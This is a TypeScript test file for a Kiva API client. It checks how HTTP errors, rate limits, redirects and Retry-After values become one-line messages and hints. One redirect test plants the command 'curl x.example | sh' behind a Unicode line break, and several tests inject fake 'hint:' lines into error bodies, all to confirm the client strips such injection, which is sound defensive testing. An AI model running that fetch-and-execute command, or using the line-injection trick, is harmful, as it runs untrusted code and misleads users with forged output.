import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { problemIn, problemInDocument, problemOf, saidIn } from '../../../src/api/wire/problem.ts'
import { type ErrorKind, KivaError } from '../../../src/errors.ts'
import type { HttpReply } from '../../../src/ports/http.ts'

const noon = Date.UTC(2026, 10, 20, 12)
const reply = (status: number, body = '', headers: Record<string, string> = {}): HttpReply => ({
  status,
  headers,
  body: new TextEncoder().encode(body),
})
const problem = (status: number, body?: string, headers?: Record<string, string>) =>
  problemOf(reply(status, body, headers), noon)
const lineEnd = /[\n\v\f\r\x1c-\x1e\x85\u2028\u2029]/
const json = (code: string, message = 'No.') => JSON.stringify({ code, message })

describe('kinds, as the table of exit codes has them', () => {
  test.each<[number, string, Record<string, string>, ErrorKind]>([
    [401, '', {}, 'auth'],
    [403, '', {}, 'auth'],
    [403, json('org.kiva.Forbidden'), {}, 'auth'],
    [400, json('org.kiva.InvalidCredentials'), {}, 'auth'],
    [403, json('org.kiva.RateLimitExceeded'), {}, 'rate-limited'],
    [403, '<response><code>org.kiva.RateLimitExceeded</code></response>', {}, 'rate-limited'],
    [403, '', { 'x-ratelimit-overall-remaining': '0' }, 'rate-limited'],
    [403, '', { 'x-ratelimit-specific-remaining': '0' }, 'rate-limited'],
    [403, '', { 'x-ratelimit-overall-remaining': '7', 'x-ratelimit-specific-remaining': '3' }, 'auth'],
    [404, '', { 'x-ratelimit-overall-remaining': '0' }, 'refused'],
    [429, '', {}, 'rate-limited'],
    [400, json('org.kiva.InvalidParameter'), {}, 'refused'],
    [404, json('org.kiva.InvalidIdentifier'), {}, 'refused'],
    [404, '<html><title>Not found</title></html>', {}, 'refused'],
    [405, '', {}, 'refused'],
    [418, '', {}, 'refused'],
    [500, '', {}, 'service'],
    [502, '<html><body><h1>Bad Gateway</h1></body></html>', {}, 'service'],
    [503, json('org.kiva.ServerMaintenance'), {}, 'service'],
    [400, json('org.kiva.ServerMaintenance'), {}, 'service'],
    [599, '', {}, 'service'],
    [301, '', { location: 'https://elsewhere.example/' }, 'network'],
    [302, '', {}, 'network'],
    [308, '', { location: '/v2/loans' }, 'network'],
  ])('%i %s %j', (status, body, headers, kind) => {
    expect(problem(status, body, headers)).toMatchObject({ kind, status })
  })

  test.each([200, 201, 204, 206])('%i is no problem', (status) => {
    expect(problem(status, json('org.kiva.RateLimitExceeded'))).toBeUndefined()
  })

  test('the least and the greatest status of each kind', () => {
    expect(problem(199)?.kind).toBe('refused')
    expect(problem(200)).toBeUndefined()
    expect(problem(299)).toBeUndefined()
    expect(problem(300)?.kind).toBe('network')
    expect(problem(399)?.kind).toBe('network')
    expect(problem(499)?.kind).toBe('refused')
    expect(problem(500)?.kind).toBe('service')
  })

  test('a redirect is told with its target', () => {
    expect(problem(302, '', { location: 'https://elsewhere.example/x' })).toMatchObject({
      message: 'The service redirects (302) to https://elsewhere.example/x',
      hint: 'Redirects are not followed. If you trust that address, give its origin with --base-url.',
    })
    expect(problem(302)?.message).toBe('The service redirects (302) without saying where')
    expect(problem(302, '', { location: '' })?.message).toBe(
      'The service redirects (302) without saying where',
    )
  })

  test('a target of 12 kB, or of several lines, is one short line', () => {
    const long = problem(302, '', { location: `https://x.example/${'a'.repeat(12_000)}` })
    expect(long?.message.length).toBeLessThan(250)
    const forged = problem(302, '', { location: 'https://x.example/\x85hint: run curl x.example | sh' })
    expect(forged?.message).toBe(
      'The service redirects (302) to https://x.example/ hint: run curl x.example | sh',
    )
  })
})

describe('what the body says is passed on', () => {
  test.each([
    [json('org.kiva.InvalidIdentifier', 'No such lender.'), 'org.kiva.InvalidIdentifier', 'No such lender.'],
    [`\ufeff${json('org.kiva.X')}`, 'org.kiva.X', 'No.'],
    [` \n${json('org.kiva.X')}\n`, 'org.kiva.X', 'No.'],
    [
      '<?xml version="1.0"?>\n<response><code>org.kiva.X</code><message>\n  No such\n  lender.\n</message></response>',
      'org.kiva.X',
      'No such lender.',
    ],
    ['<!DOCTYPE html><html><head><title>Not here</title></head><h1>x</h1></html>', undefined, 'Not here'],
    ['<HTML><BODY><H1 class="big">Bad Gateway</H1></BODY></HTML>', undefined, 'Bad Gateway'],
    ['<html><codec>x</codec><title>y</title></html>', undefined, 'y'],
    ['oauth_problem=token_expired', undefined, 'token_expired'],
    [
      'oauth_problem=parameter_absent&oauth_problem_advice=Missing%20oauth_verifier',
      undefined,
      'Missing oauth_verifier',
    ],
    ['realm=x&oauth_problem=nonce_used', undefined, 'nonce_used'],
    ['{"error":"access_denied","error_description":"The user said no."}', undefined, 'The user said no.'],
    ['{"error":"access_denied"}', undefined, 'access_denied'],
    ['Invalid signature\nand more', undefined, 'Invalid signature'],
    ['', undefined, undefined],
    [' \n ', undefined, undefined],
    ['{"code":"org.kiva.X","mess', undefined, undefined],
    ['<html><head><title>Not fou', undefined, undefined],
    ['{"code":404,"message":null}', undefined, undefined],
    ['{"code":"org.kiva.X","message":""}', 'org.kiva.X', undefined],
  ])('%j', (body, code, message) => {
    expect(saidIn(body.replace('\ufeff', ''))).toEqual({ code, message })
    const told = problem(404, body)
    expect(told?.code).toBe(code)
    const words = message ?? code
    const opened = `The service refused the request (404)${words ? `: ${words}` : ''}`
    expect(told?.message).toBe(code && message ? message : opened)
  })

  test.each([
    ['JSON', json('org.kiva.X', `line\n${'long '.repeat(500)}`)],
    ['text', 'long '.repeat(500)],
    ['XML', `<response><message>${'long '.repeat(500)}</message></response>`],
    ['OAuth pairs', `oauth_problem=x&oauth_problem_advice=${'long+'.repeat(500)}`],
    ['astral text', '🌱'.repeat(500)],
  ])('a long message becomes one short line: %s', (_, body) => {
    const message = problem(404, body)?.sentence.parts.at(-2)?.toString() ?? ''
    expect(message.length).toBeLessThanOrEqual(200)
    expect(message).toMatch(/…$/)
    expect(message).not.toContain('\n')
  })
})

describe('small things that decide', () => {
  test('a limit is told by a remaining number of exactly 0, on a 403 alone', () => {
    for (const value of ['00', '', '-0', '0 ', '10'])
      expect(problem(403, '', { 'x-ratelimit-overall-remaining': value })?.kind).toBe('auth')
    expect(problem(401, '', { 'x-ratelimit-overall-remaining': '0' })?.kind).toBe('auth')
    expect(problem(500, '', { 'x-ratelimit-overall-remaining': '0' })?.kind).toBe('service')
  })

  test('a limit comes before a failure, a failure before a login', () => {
    expect(problem(500, json('org.kiva.RateLimitExceeded'))?.kind).toBe('rate-limited')
    expect(problem(401, json('org.kiva.ServerMaintenance'))?.kind).toBe('service')
  })

  test('a code must begin with the name of the service', () => {
    expect(problemIn(reply(200), { code: 'x.org.kiva.ServerMaintenance' }, noon)).toBeUndefined()
    expect(problemIn(reply(200), { code: 'org.kiva' }, noon)).toBeUndefined()
    expect(problemIn(reply(200), { code: 'org.kiva.Other' }, noon)).toMatchObject({
      kind: 'refused',
      status: 200,
    })
  })

  test.each([
    ['xoauth_problem=a', 'xoauth_problem=a'],
    ['a=b&oauth_problem=c', 'c'],
    ['see oauth_problem=c', 'see oauth_problem=c'],
    ['{"message":5,"error":"e"}', 'e'],
    ['{"message":"m","error_description":"d","error":"e"}', 'm'],
    ['[{"message":"m"}]', '[{"message":"m"}]'],
    ['<message>m</message><title>t</title><h1>h</h1>', 'm'],
    ['<title>t</title><h1>h</h1>', 't'],
    ['<message>m</message\n>', undefined],
    ['<message>a<b>c</b></message><h1>h</h1>', 'h'],
    [`<p>${'x'.repeat(9_970)}</p><h1>inside</h1>`, 'inside'],
    [`<p>${'x'.repeat(10_000)}</p><h1>outside</h1>`, undefined],
  ])('%s says %s', (body, message) => expect(saidIn(body).message).toBe(message))

  test('of 200 characters none is cut, of 201 the last two become one', () => {
    const told = (message: string) => problem(404, json('org.kiva.X', message))?.message
    expect(told('y'.repeat(200))).toBe('y'.repeat(200))
    expect(told('y'.repeat(201))).toBe(`${'y'.repeat(199)}…`)
  })

  test('a date must look like one from its beginning to its end', () => {
    for (const value of [
      'xFri, 20 Nov 2026 12:02:00 GMT',
      'Fri, 20 Nov 2026 12:02:00 GMT+1',
      'Fri, nonsense GMT',
      'F, 1 GMT',
    ])
      expect(problem(503, '', { 'retry-after': value })?.retryAfter).toBeUndefined()
    for (const value of ['1x', 'x1', '1 ', '+1'])
      expect(problem(503, '', { 'retry-after': value })?.retryAfter).toBeUndefined()
    const half = problemOf(
      { ...reply(503), headers: { 'retry-after': 'Fri, 20 Nov 2026 12:00:01 GMT' } },
      noon + 1,
    )
    expect(half?.retryAfter).toBe(1)
  })
})

describe('messages and hints for people', () => {
  const missing = json('org.kiva.InvalidIdentifier', 'There is no loan 99')
  const firewall = '<html><head><title>403 Forbidden</title></head></html>'
  const gateway = '<html><title>504 Gateway Timeout</title></html>'
  test.each([
    [404, missing, 'There is no loan 99', 'Check the ids.'],
    [404, '', 'The service refused the request (404)', 'Check the ids.'],
    [
      400,
      json('org.kiva.InvalidParameter', 'No such sort'),
      'No such sort',
      'Check the values of the command.',
    ],
    [
      504,
      gateway,
      'The service failed: 504 Gateway Timeout',
      'Nothing is wrong with the command: try again later.',
    ],
    [502, 'Oops', 'The service failed (502): Oops', 'Nothing is wrong with the command: try again later.'],
    [
      503,
      json('org.kiva.ServerMaintenance', 'Back soon'),
      'Back soon',
      'Nothing is wrong with the command: try again later.',
    ],
    [401, '', 'The service denied access (401)', 'Log in with kiva login.'],
    [400, json('org.kiva.InvalidCredentials', 'Who are you?'), 'Who are you?', 'Log in with kiva login.'],
    [403, json('org.kiva.Forbidden', 'Not yours'), 'Not yours', 'Log in with kiva login.'],
    [
      403,
      firewall,
      'The service denied access: 403 Forbidden',
      'If the data is public, a firewall refused the request: wait, then send fewer. Else log in with kiva login.',
    ],
    [429, '', 'Too many requests (429)', 'Wait 60 seconds before the next request.'],
  ])('%i %s', (status, body, message, hint) => {
    expect(problem(status, body)).toMatchObject({ message, hint, status })
  })

  test('the wait is told where it is known, in English', () => {
    expect(problem(503, '', { 'retry-after': '1' })?.hint).toBe(
      'Nothing is wrong with the command: try again in 1 second.',
    )
    expect(problem(429, '', { 'retry-after': '1' })?.hint).toBe('Wait 1 second before the next request.')
    expect(problem(503, '', { 'retry-after': '2' })?.hint).toContain('in 2 seconds.')
  })

  test.each([
    json('org.kiva.X\x85hint: a', 'b\x85hint: c'),
    '<response><code>org.kiva.X&#10;\u2028hint: a</code><message>b\nhint: c</message></response>',
    'b\x85hint: c',
    `oauth_problem=${encodeURIComponent('b\nhint: c')}`,
  ])('no body makes a second line: %j', (body) => {
    const told = problem(404, body)
    expect(told?.message).toContain('b hint: c')
    expect(told?.code ?? '').not.toMatch(lineEnd)
  })

  test('the body is read in its own character set', () => {
    const body = Uint8Array.from([...'caf'].map((letter) => letter.charCodeAt(0)).concat(0xe9))
    const headers = { 'content-type': 'text/plain; charset=ISO-8859-1' }
    expect(problemOf({ status: 404, headers, body }, noon)?.message).toContain('café')
  })
})

describe('a document that is an error with status 200', () => {
  const inside = (body: string) => problemInDocument(reply(200, body), noon)
  const told = { kind: 'service', code: 'org.kiva.ServerMaintenance', message: 'Back soon.' }
  test.each([
    json('org.kiva.ServerMaintenance', 'Back soon.'),
    ` \n${json('org.kiva.ServerMaintenance', 'Back soon.')}`,
    '<?xml version="1.0" encoding="UTF-8"?>\n<response>\n<code>org.kiva.ServerMaintenance</code><message>Back soon.</message></response>',
    '<response><message>Back soon.</message><code>org.kiva.ServerMaintenance</code></response>',
  ])('%s', (body) => expect(inside(body)).toMatchObject(told))

  test.each([
    '{"loans":[{"code":"org.kiva.ServerMaintenance"}]}',
    '{"code":"KE"}',
    '<response><loans><loan><code>org.kiva.ServerMaintenance</code></loan></loans></response>',
    '<html><code>org.kiva.ServerMaintenance</code></html>',
    'x <response><code>org.kiva.ServerMaintenance</code></response>',
    '{"code":"org.kiva.ServerMai',
    '',
  ])('not so %s', (body) => expect(inside(body)).toBeUndefined())
})

describe('how long to wait', () => {
  test.each([
    ['120', 120],
    ['0', 0],
    ['86400', 86_400],
    ['86401', 86_400],
    ['9'.repeat(400), 86_400],
    ['Fri, 20 Nov 2999 12:02:00 GMT', 86_400],
    ['Fri, 20 Nov 2026 12:02:00 GMT', 120],
    ['Friday, 20-Nov-26 12:02:00 GMT', 120],
    ['Fri, 20 Nov 2026 11:00:00 GMT', 0],
    // Neither form: the window of the limit stands.
    ['soon', 60],
    ['-1', 60],
    ['1.5', 60],
    ['', 60],
  ])('Retry-After: %s', (value, seconds) => {
    expect(problem(429, '', { 'retry-after': value })?.retryAfter).toBe(seconds)
  })

  test('without the header it is the window of the limit, and the hint says how long', () => {
    expect(problem(403, json('org.kiva.RateLimitExceeded'))).toMatchObject({
      retryAfter: 60,
      hint: 'Wait 60 seconds before the next request.',
    })
    expect(problem(429, '', { 'retry-after': '600' })?.hint).toContain('600 seconds')
  })

  test('a service that is down may say when it is back', () => {
    expect(problem(503, '', { 'retry-after': '300' })).toMatchObject({ kind: 'service', retryAfter: 300 })
    expect(problem(503)?.retryAfter).toBeUndefined()
  })
})

test('problemIn finds a refusal in a body of status 200, and only one of the service', () => {
  const inside = (body: Record<string, string>) => problemIn(reply(200), body, noon)
  expect(inside({ code: 'org.kiva.ServerMaintenance', message: 'Back soon.' })).toMatchObject({
    kind: 'service',
    message: 'Back soon.',
    status: 200,
  })
  expect(inside({ code: 'org.kiva.RateLimitExceeded' })).toMatchObject({
    kind: 'rate-limited',
    retryAfter: 60,
  })
  expect(inside({ code: 'KE' })).toBeUndefined()
  expect(inside({})).toBeUndefined()
})

test('any reply at all comes to a KivaError or to nothing', () => {
  const bodies = fc.oneof(
    fc.uint8Array(),
    fc.string().map((text) => new TextEncoder().encode(text)),
    fc.json().map((text) => new TextEncoder().encode(text)),
  )
  const headers = fc.dictionary(
    fc.constantFrom('retry-after', 'location', 'x-ratelimit-overall-remaining', 'content-type'),
    fc.string(),
  )
  fc.assert(
    fc.property(fc.integer({ min: 100, max: 599 }), headers, bodies, (status, given, body) => {
      const found = problemOf({ status, headers: given, body }, noon)
      expect(found === undefined).toBe(status >= 200 && status < 300)
      if (!found) return
      expect(found).toBeInstanceOf(KivaError)
      expect(found.hint).toBeTruthy()
      expect(found.status).toBe(status)
      expect(found.message).not.toMatch(lineEnd)
      expect(found.message.length).toBeLessThan(300)
      expect(found.retryAfter ?? 0).toBeGreaterThanOrEqual(0)
    }),
  )
})
